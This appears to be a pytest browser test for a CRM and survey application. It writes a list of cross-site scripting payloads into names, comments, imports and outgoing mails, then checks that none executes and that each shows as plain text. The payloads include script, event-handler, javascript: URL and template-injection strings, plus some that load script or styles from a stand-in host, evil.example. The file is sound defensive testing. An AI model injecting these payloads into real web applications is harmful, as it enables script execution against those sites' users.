"""Scripts that customers or senders could write into names, comments and mails: none runs, on no page."""

from datetime import timedelta

import pytest

from crm.accounts import actions as accounts
from crm.accounts.models import Account
from crm.contacts.models import Contact
from crm.imports.models import ImportRefusal, ImportRun
from crm.outbox import actions as outbox
from crm.plans.models import Feature
from crm.sources.models import Reject, Source
from crm.usage.models import EventName
from feedback.answers.models import Answer
from feedback.surveys.models import Survey
from retention.follow_ups.models import FollowUp
from retention.tasks.actions import create_task
from tests import factories
from tests.architecture.asking import address, expected, visits
from tests.architecture.matrix import URLS
from tests.browser.conftest import Watching
from tests.company import NOW, TODAY, Company
from tests.feedback import people

pytestmark = [pytest.mark.browser, pytest.mark.timeout(600)]
SCRIPTS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "--></style><script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<script src=data:text/javascript,alert(1)></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<form action=javascript:alert(1)><button>x",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    '" autofocus onfocus=alert(1) x="',
    "{{ 7*7 }}{% debug %}${alert(1)}",
    "';alert(1)//\\';alert(1)//",
]
# Fits a name and tries several contexts at once.
MANY = "jaVasCript:/*-/*`/*'/*\"/**/(alert(1))//</title></style></textarea></script><svg onload=alert(1)>"
MAILS = {"mail-body", "survey-mail"}
PIECES = {"portfolio-bands", "palette"}  # htmx fetches them into pages that are opened


def poison(made: Company) -> None:
    """Write the scripts wherever words come from outside, mostly around the rep's own account."""
    of, rep = made.accounts["own"], made.users["R"]
    Account.objects.system("test").filter(pk=of.pk).update(
        name=MANY, next_step=MANY, segment=MANY[:80], tags=[MANY[:60]]
    )
    Contact.objects.system("test").filter(account=of).update(name=MANY, job_title=MANY[:120], phone=MANY[:40])
    FollowUp.objects.system("test").filter(account=of).update(
        subject=MANY, body="\n".join(SCRIPTS), why=MANY, state_why=MANY, facts={"x": MANY}
    )
    survey, source, run = Survey.objects.get(), Source.objects.get(name="Web app"), ImportRun.objects.get()
    Source.objects.filter(pk=source.pk).update(name=MANY[:100])
    ImportRun.objects.update(filename=MANY)
    Feature.objects.update(name=MANY, unit=MANY[:40])
    for n, script in enumerate(SCRIPTS):
        factories.account(script, owner=rep, next_step=script, external_id=f"{script}{n}")
        someone = factories.contact(of, name=script, job_title=script)
        create_task(of, title=script, due_on=TODAY, detail=script, at=NOW, by=rep)
        trait = accounts.define_trait(
            key=f"{n}{script}", label=script, type="text", unit=script[:40], at=NOW, by=made.users["O"]
        )
        accounts.set_trait(of, trait, script, at=NOW, by=rep)
        EventName.objects.create(name=f"{script}{n}", first_seen_at=NOW, last_seen_at=NOW)
        Reject.objects.create(source=source, at=NOW, position=n, reason=script, excerpt=script, message_id=script)
        ImportRefusal.objects.create(run=run, line=n + 9, reason=script, row={script: script})
        Answer.objects.create(
            invitation=people.invitation(survey, someone, created_at=NOW - timedelta(days=1)),
            account=of, contact=someone, score=2, comment=script, answered_at=NOW,
        )  # fmt: skip
    mail = outbox.enqueue(
        key="scripts", account=of, contact=made.contacts["own"], kind="informational", signer=rep, approved_by=rep,
        subject=MANY, body_text="\n\n".join(SCRIPTS), body_html="\n".join(SCRIPTS), due_at=NOW, at=NOW, by=rep,
    )  # fmt: skip
    made.remember("waiting mail", mail.pk, "own")


def test_no_script_runs_on_any_page_or_in_any_mail(made: Company, watching: Watching) -> None:
    poison(made)
    found: dict[str, list[str]] = {}
    for role in "OR":
        watched = watching(role)
        for line in URLS:
            whose = visits(made, line)[0]
            if line.name in PIECES or expected(line.get, role, "team", whose) != 200:
                continue
            if faults := watched.open(address(made, line, whose), scripts=line.name not in MAILS):
                found[f"{line.name} as {role}"] = list(faults)
        for query in ("?q=%22%3E%3Cimg+src=x+onerror=alert(1)%3E", "?q=%3Csvg%20onload=alert(1)%3E&band=%22%3E"):
            for path in ("/search/", "/accounts/", "/settings/events/"):
                if (path, role) != ("/settings/events/", "R") and (faults := watched.open(path + query)):
                    found[f"{path}{query} as {role}"] = list(faults)
    public = watching("-")
    if faults := public.open(f"/s/{made.rows['token']['']}/?score=%3Cscript%3Ealert(1)%3C/script%3E"):
        found["answer"] = list(faults)
    assert found == {}


def test_the_scripts_stand_on_the_pages_as_plain_words(made: Company, watching: Watching) -> None:
    """Else the test above would say nothing."""
    poison(made)
    watched = watching("O")
    pages = {
        "contacts": f"/accounts/{made.accounts['own'].pk}/contacts/",
        "traits": "/traits/",
        "rejects": f"/settings/sources/{made.rows['source']['']}/",
        "survey": f"/surveys/{made.rows['survey']['']}/",
        "draft": f"/drafts/{made.rows['draft']['own']}/",
    }
    missing = {}
    for name, path in pages.items():
        watched.open(path)
        shown = watched.page.evaluate("document.body.innerText.replace(/\\s+/g, ' ')")
        wanted = SCRIPTS[-10:] if name == "rejects" else SCRIPTS  # the newest come first, one screenful at a time
        missing[name] = [script for script in wanted if script not in shown]
    assert {name: left for name, left in missing.items() if left} == {}
